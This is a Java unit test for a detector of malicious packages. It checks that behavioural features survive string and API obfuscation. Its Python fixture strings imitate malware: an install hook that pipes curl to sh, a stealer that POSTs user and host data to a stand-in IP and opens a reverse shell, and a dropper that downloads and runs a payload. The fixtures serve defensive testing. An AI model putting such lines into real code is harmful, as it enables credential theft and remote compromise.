package dev.fang.robustness;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.featurize.features.FeatureCatalogue;
import dev.fang.featurize.features.FeatureResult;
import dev.fang.featurize.features.PackageContents;
import dev.fang.featurize.features.PackageFeaturizer;
import dev.fang.featurize.features.Scope;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/**
 * The API, module-level and behaviour features of malicious-looking packages do not move when their strings or API
 * calls are obfuscated: the obfuscator's decoding and name lookups are plumbing, not behaviour. The fixtures are
 * text written for this test; nothing runs.
 */
class BehaviourFeatureInvarianceTest {
    private static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();
    private static final int SEEDS = 40;

    private static final String SETUP = """
            import os
            import base64
            import subprocess
            from setuptools import setup

            os.system('curl -s http://203.0.113.7/x.sh | sh')
            subprocess.Popen(['/bin/sh', '-c', 'id'], shell=False)
            exec(base64.b64decode('cHJpbnQoJ2ZhbmcgZml4dHVyZScp'))
            setup(name='fixture', version='1.0', packages=['fixture'])
            """;

    private static final String STEALER = """
            import getpass
            import platform
            import socket
            import urllib.request
            import json

            def collect():
                info = {'user': getpass.getuser(), 'host': platform.node(), 'os': platform.system()}
                data = json.dumps(info).encode('utf-8')
                req = urllib.request.Request('http://203.0.113.7/collect', data=data, method='POST')
                urllib.request.urlopen(req)

            def shell(host):
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.connect((host, 4444))
                os_name = platform.system()
                subprocess_args = ['/bin/sh', '-i']
                return s, os_name, subprocess_args

            collect()
            """;

    private static final String DROPPER = """
            import os
            import requests
            import subprocess

            URL = 'http://203.0.113.7/payload.bin'
            PATH = os.path.join(os.path.expanduser('~'), '.cache', 'payload.bin')
            r = requests.get(URL, timeout=5)
            with open(PATH, 'wb') as f:
                f.write(r.content)
            os.chmod(PATH, 0o755)
            subprocess.call([PATH], shell=False)
            print('done')
            TEMPLATE = 'import socket\\nsocket.create_connection((%r, 80)).send(b"x")\\n'
            eval(compile('print(1)', '<fixture>', 'exec'))
            """;

    private static PackageContents fixture() {
        return Fixtures.pkg("fixture-1.0/setup.py", SETUP, "fixture-1.0/fixture/__init__.py", "from . import steal\n",
                "fixture-1.0/fixture/steal.py", STEALER, "fixture-1.0/fixture/drop.py", DROPPER);
    }

    /** The features that describe behaviour: APIs used, code at module level, risky module-level calls, behaviours. */
    private static boolean behavioural(String name) {
        for (Scope s : Scope.values()) {
            String base = name.startsWith(s.prefix() + "_") ? name.substring(s.prefix().length() + 1) : null;
            if (base != null && (base.startsWith("api_") || base.startsWith("modlevel_")
                    || base.equals("hook_module_level_risky") || base.startsWith("beh_"))) {
                return true;
            }
        }
        return false;
    }

    private static Map<String, Double> behaviour(PackageContents pkg) {
        FeatureResult r = FEATURIZER.featurize(pkg);
        assertThat(r.partial()).as("partial: %s", r.notes()).isFalse();
        Map<String, Double> out = new TreeMap<>();
        for (String name : FeatureCatalogue.names()) {
            if (behavioural(name)) {
                out.put(name, r.value(name));
            }
        }
        return out;
    }

    @Test
    void shouldKeepBehaviourFeaturesUnderStringAndApiObfuscation() {
        PackageContents original = fixture();
        Map<String, Double> before = behaviour(original);
        assertThat(before.get("install_api_command_sites")).as("%s", before).isEqualTo(2);
        assertThat(before.get("install_beh_obfuscated_execution")).as("%s", before).isEqualTo(1);
        assertThat(before.get("import_beh_info_stealing")).as("%s", before).isEqualTo(1);
        assertThat(before.get("import_beh_dropper")).as("%s", before).isEqualTo(1);
        List<List<Transformation>> chains = List.of(List.of(new StringObfuscation()), List.of(new ApiObfuscation()),
                List.of(new ApiObfuscation(), new StringObfuscation()), List.of(new StringObfuscation(), new ApiObfuscation()));
        List<String> failures = new ArrayList<>();
        for (List<Transformation> chain : chains) {
            for (double p : new double[] {1.0, 0.5}) {
                for (long seed = 1; seed <= SEEDS; seed++) {
                    PackageContents pkg = original;
                    for (Transformation t : chain) {
                        pkg = t.apply(pkg, p, seed);
                    }
                    Map<String, Double> after = behaviour(pkg);
                    if (!after.equals(before)) {
                        failures.add(chain.stream().map(Transformation::name).toList() + " p=" + p + " seed " + seed + ": "
                                + diff(before, after) + "\n" + Fixtures.texts(pkg));
                    }
                }
            }
        }
        assertThat(failures).as(failures.isEmpty() ? "" : failures.get(0)).isEmpty();
    }

    private static String diff(Map<String, Double> before, Map<String, Double> after) {
        StringBuilder sb = new StringBuilder();
        before.forEach((k, v) -> {
            if (!v.equals(after.get(k))) {
                sb.append(k).append(' ').append(v).append(" -> ").append(after.get(k)).append("; ");
            }
        });
        return sb.toString();
    }
}
